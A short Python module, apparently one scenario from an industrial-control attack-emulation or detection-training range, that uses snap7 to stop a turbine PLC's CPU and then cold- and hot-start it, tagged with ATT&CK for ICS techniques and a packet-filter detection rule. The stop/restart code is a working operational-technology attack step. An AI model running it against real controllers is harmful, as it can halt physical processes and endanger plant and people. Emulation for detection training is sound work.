"""The turbine's CPU is stopped, and started again a little later."""

from __future__ import annotations

from snap7.client import Client

from ..node import Node

TITLE = "S7 CPU stopped and started again from the engineering workstation"
TECHNIQUES = ("T0858", "T0816")
ORIGIN = "ews"
ENTITIES = ("ews", "plc-turbine")
EVIDENCE = "s7comm.param.func in {0x28, 0x29} && ip.src == 10.20.3.20"


def run(node: Node) -> None:
    """PLC stop (0x29), a cold start and a hot start (0x28)."""
    client = Client()
    client.connect(node.peer("plc-turbine"), 0, 2)
    client.plc_stop()
    node.pause(2.0)
    client.plc_cold_start()
    node.pause(0.6)
    client.plc_hot_start()
    client.disconnect()
